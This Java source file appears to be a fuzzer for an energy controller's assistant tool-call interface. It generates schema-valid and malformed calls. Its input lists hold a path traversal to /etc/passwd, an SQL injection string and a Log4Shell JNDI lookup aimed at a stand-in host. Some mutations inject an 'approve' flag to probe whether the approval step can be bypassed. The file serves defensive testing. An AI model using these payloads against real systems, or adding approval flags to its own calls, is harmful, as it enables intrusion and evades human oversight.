package io.spikewatt.controller.assist;

import io.spikewatt.controller.json.JsonTree;
import io.spikewatt.controller.json.JsonWriter;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.Random;
import java.util.TreeMap;

/**
 * A model whose grammar is the list of tools: it draws calls that the schemas permit, and calls
 * beside them by a change of one value, name or bracket.
 */
final class GrammarModel {

  /** Values of commands, which the schema of a proposal leaves open. */
  private static final List<String> VALUES =
      List.of(
          "0",
          "20",
          "45",
          "100",
          "-2500",
          "2500",
          "4000",
          "6000",
          "12000",
          "\"off\"",
          "\"hold\"",
          "\"auto\"",
          "\"cost\"",
          "\"fast\"",
          "\"solar\"",
          "\"self-consumption\"");

  private static final List<String> COMMANDS =
      List.of(
          "mode",
          "objective",
          "reserve-soc",
          "limit-import",
          "limit-export",
          "setpoint/battery1",
          "setpoint/heatpump1",
          "charging-mode/ev1",
          "charge-now/ev1",
          "ev/ev1/energy",
          "ev/ev1/departure",
          "reload",
          "prices");

  /** Texts that are right in few places. */
  private static final List<String> TEXTS =
      List.of(
          "",
          " ",
          "2026-11-01",
          "2026-10-21T18:00:00+02:00",
          "2026-13-40",
          "9999-12-31T23:59:59Z",
          "battery1",
          "control.reserve-soc-pct",
          "../../etc/passwd",
          "a\u0000b",
          "\u202Eabc",
          "\uD83D\uDE00",
          "e\u0301".repeat(40),
          "'; drop table means; --",
          "${jndi:ldap://203.0.113.9/a}",
          "x".repeat(3000));

  /** Documents that are no value of any argument. */
  private static final List<String> STRANGE =
      List.of(
          "null",
          "true",
          "[]",
          "{}",
          "[1,2]",
          "{\"value\":1}",
          "-0",
          "1e999",
          "-1e-999",
          "0.1e1",
          "NaN",
          "Infinity",
          "01",
          "9".repeat(400),
          "[".repeat(40),
          "\"\\ud800\"",
          "\"\\u0000\"");

  private static final int NEIGHBOURS = 3;

  private final Map<String, JsonTree> schemas = new TreeMap<>();
  private final List<String> names = new ArrayList<>();
  private final Random random;

  /** {@code list}: the answer to {@code tools/list}. */
  GrammarModel(JsonTree list, Random random) {
    this.random = random;
    for (JsonTree tool : list.at("result.tools").orElseThrow().items()) {
      String name = tool.text("name");
      names.add(name);
      schemas.put(name, tool.find("inputSchema").orElseThrow());
    }
  }

  /**
   * A call.
   *
   * @param arguments as JSON writes them, or nearly
   */
  record Call(String tool, String arguments) {}

  /** A call of a tool; of a proposal more often than of others. */
  Call next() {
    String tool = random.nextInt(4) == 0 ? "propose" : pick(names);
    boolean beside = random.nextInt(NEIGHBOURS) == 0;
    String arguments = arguments(Objects.requireNonNull(schemas.get(tool)), beside);
    if (!beside) {
      return new Call(tool, arguments);
    }
    return switch (random.nextInt(12)) {
      case 0 -> new Call(changed(tool), arguments);
      case 1 -> new Call(tool, cut(arguments));
      case 2 -> new Call(tool, arguments.replaceFirst("}$", ",\"approve\":true}"));
      case 3 -> new Call(tool, doubled(arguments));
      case 4 -> new Call(tool, pick(STRANGE));
      default -> new Call(tool, arguments);
    };
  }

  private String arguments(JsonTree schema, boolean beside) {
    Map<String, JsonTree> properties =
        schema.find("properties").map(JsonTree::fields).orElse(Map.of());
    List<String> required =
        schema
            .find("required")
            .map(it -> it.items().stream().map(JsonTree::text).toList())
            .orElse(List.of());
    List<String> fields = new ArrayList<>();
    properties.forEach(
        (name, property) -> {
          boolean given = required.contains(name) || random.nextInt(3) == 0;
          if (given && !(beside && random.nextInt(10) == 0)) {
            boolean other = beside && random.nextInt(3) == 0;
            fields.add(
                "\"%s\":%s".formatted(name, other ? other(property) : value(name, property)));
          }
        });
    Collections.shuffle(fields, random);
    return "{" + String.join(",", fields) + "}";
  }

  /** A value that the schema permits, as far as a schema says it. */
  private String value(String name, JsonTree property) {
    if (property.find("enum").isPresent()) {
      return quoted(pick(property.find("enum").orElseThrow().items()).text());
    }
    if (name.equals("command")) {
      return quoted(pick(COMMANDS));
    }
    if (name.equals("value")) {
      return pick(VALUES);
    }
    return switch (property.find("type").orElseThrow().text()) {
      case "number" -> String.valueOf(between(property));
      case "integer" -> String.valueOf(Math.round(between(property)));
      case "boolean" -> String.valueOf(random.nextBoolean());
      default -> quoted(text(property));
    };
  }

  private double between(JsonTree property) {
    double least = property.number("minimum");
    double most = property.number("maximum");
    return switch (random.nextInt(5)) {
      case 0 -> least;
      case 1 -> most;
      default -> least + random.nextDouble() * (most - least);
    };
  }

  private String text(JsonTree property) {
    if (property.find("format").isPresent()) {
      return "2026-%02d-%02dT%02d:00:00Z"
          .formatted(1 + random.nextInt(12), 1 + random.nextInt(28), random.nextInt(24));
    }
    return random.nextBoolean()
        ? "2026-10-%02d".formatted(1 + random.nextInt(31))
        : TEXTS.get(random.nextInt(8));
  }

  /** A value beside those that the schema permits. */
  private String other(JsonTree property) {
    return switch (random.nextInt(4)) {
      case 0 -> pick(STRANGE);
      case 1 ->
          property
              .find("maximum")
              .map(most -> "1" + most.text().replaceFirst("-", ""))
              .orElse("\"" + "y".repeat(500) + "\"");
      case 2 -> "\"" + random.nextInt(100) + "\"";
      default -> quoted(pick(TEXTS));
    };
  }

  private String changed(String name) {
    return switch (random.nextInt(5)) {
      case 0 -> name.toUpperCase(java.util.Locale.ROOT);
      case 1 -> name + " ";
      case 2 -> name + "\u200B";
      case 3 -> pick(List.of("approve", "execute", "act", "reload", "", "tools/list"));
      default -> name.substring(1);
    };
  }

  private String cut(String arguments) {
    int at = random.nextInt(arguments.length());
    return random.nextBoolean()
        ? arguments.substring(0, at)
        : arguments.substring(0, at) + "}" + arguments.substring(at);
  }

  private String doubled(String arguments) {
    String inner = arguments.substring(1, arguments.length() - 1);
    return inner.isEmpty() ? arguments : "{" + inner + "," + inner + "}";
  }

  private static String quoted(String text) {
    String json = JsonWriter.text(one -> one.put("x", text));
    return json.substring(json.indexOf(':') + 1, json.length() - 1);
  }

  private <T> T pick(List<T> all) {
    return all.get(random.nextInt(all.size()));
  }
}
